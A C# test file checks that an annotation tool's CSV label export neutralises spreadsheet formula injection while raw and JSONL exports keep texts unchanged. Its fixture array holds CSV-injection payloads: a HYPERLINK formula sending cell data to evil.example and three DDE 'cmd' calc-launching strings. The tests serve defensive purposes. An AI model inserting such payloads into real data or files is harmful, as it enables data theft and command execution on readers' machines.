using System.Text.Json;
using Microsoft.Extensions.Logging.Abstractions;
using PuoAiOps.Application.Annotation;
using PuoAiOps.Application.Persistence;
using PuoAiOps.Cli;
using static PuoAiOps.Application.Tests.Annotation.TestToken;

namespace PuoAiOps.Application.Tests.Annotation;

/// <summary>Question texts come from users: the CSV export must not hand a spreadsheet a formula to run.</summary>
public class LabelExportSafetyTests
{
    private static readonly string[] FormulaTexts =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"refund\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];

    private static async Task<AnnotationDatabase> SeedAsync(DatabaseProvider? provider = null)
    {
        var env = await AnnotationDatabase.CreateAsync(provider);
        var intents = await env.AddIntentsAsync("refund");
        await env.AddQuestionsAsync(FormulaTexts.Length + 1, (i, q) =>
        {
            (q.FinalIntentId, q.FinalLabelSource) = (intents[0], "consensus");
            q.Text = i <= FormulaTexts.Length ? FormulaTexts[i - 1] : "an ordinary question, 1+1=2";
        });
        return env;
    }

    private static async Task<(string Text, LabelExportSummary Summary)> ExportAsync(AnnotationDatabase env, LabelExportRequest request)
    {
        await using var db = env.Context();
        var writer = new StringWriter();
        var summary = await new LabelExportService(db, NullLogger<LabelExportService>.Instance).ExportAsync(writer, request, Ct);
        return (writer.ToString(), summary);
    }

    /// <summary>The text column of each data row, unquoted (the texts here contain no line breaks).</summary>
    private static List<string> Texts(string csv) =>
        csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(FirstField).ToList();

    private static string FirstField(string line)
    {
        if (!line.StartsWith('"')) return line[..line.IndexOf(',', StringComparison.Ordinal)];
        var value = new System.Text.StringBuilder();
        for (var i = 1; i < line.Length; i++)
        {
            if (line[i] != '"') value.Append(line[i]);
            else if (i + 1 < line.Length && line[i + 1] == '"') value.Append(line[++i]);
            else break;
        }
        return value.ToString();
    }

    [Fact]
    public async Task Export_Csv_NeutralisesFormulaLikeTextsByDefault()
    {
        await using var env = await SeedAsync();

        var (csv, summary) = await ExportAsync(env, new LabelExportRequest(LabelExportFormat.Csv));

        var texts = Texts(csv);
        Assert.Equal(FormulaTexts.Select(t => "'" + t).Append("an ordinary question, 1+1=2"), texts);
        Assert.All(texts, t => Assert.DoesNotMatch("^[=+\\-@\\t\\r]", t));
        Assert.Equal("csv", summary.Format);
    }

    [Fact]
    public async Task Export_RawCsv_KeepsTextsExactlyAsStored()
    {
        await using var env = await SeedAsync();

        var (csv, summary) = await ExportAsync(env, new LabelExportRequest(LabelExportFormat.Csv, RawCells: true));

        Assert.Equal(FormulaTexts.Append("an ordinary question, 1+1=2"), Texts(csv));
        Assert.Equal("csv-raw", summary.Format);
    }

    [Fact]
    public async Task Export_Jsonl_KeepsTextsExactlyAsStored()
    {
        await using var env = await SeedAsync();

        var (jsonl, _) = await ExportAsync(env, new LabelExportRequest(LabelExportFormat.Jsonl));

        var texts = jsonl.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement.GetProperty("text").GetString());
        Assert.Equal(FormulaTexts.Append("an ordinary question, 1+1=2"), texts);
    }

    [Fact]
    public async Task ExportLabelsCommand_NeutralisesByDefault_AndWritesRawCellsOnlyWithRaw()
    {
        await using var env = await SeedAsync(DatabaseProvider.Sqlite);
        var safe = Path.Combine(env.Options.DataDir, "safe.csv");
        var raw = Path.Combine(env.Options.DataDir, "raw.csv");
        var stdout = new StringWriter();
        var stderr = new StringWriter();

        var safeExit = await PuoCli.RunAsync(["export", "labels", "--out", safe, "--data-dir", env.Options.DataDir], stdout, stderr, TextReader.Null);
        var rawExit = await PuoCli.RunAsync(["export", "labels", "--out", raw, "--raw", "--data-dir", env.Options.DataDir], stdout, stderr, TextReader.Null);

        Assert.True(safeExit == PuoCli.Ok && rawExit == PuoCli.Ok, stderr.ToString());
        Assert.Equal(FormulaTexts.Select(t => "'" + t).Append("an ordinary question, 1+1=2"), Texts(await File.ReadAllTextAsync(safe, Ct)));
        Assert.Equal(FormulaTexts.Append("an ordinary question, 1+1=2"), Texts(await File.ReadAllTextAsync(raw, Ct)));
        Assert.Contains("do not open it in a spreadsheet", stdout.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task ExportLabelsCommand_RejectsRawWithJsonl()
    {
        await using var env = await SeedAsync(DatabaseProvider.Sqlite);
        var stderr = new StringWriter();

        var exit = await PuoCli.RunAsync(["export", "labels", "--format", "jsonl", "--raw", "--out", Path.Combine(env.Options.DataDir, "x.jsonl"),
            "--data-dir", env.Options.DataDir], new StringWriter(), stderr, TextReader.Null);

        Assert.Equal(PuoCli.BadUsage, exit);
        Assert.Contains("--raw", stderr.ToString(), StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(env.Options.DataDir, "x.jsonl")));
    }
}
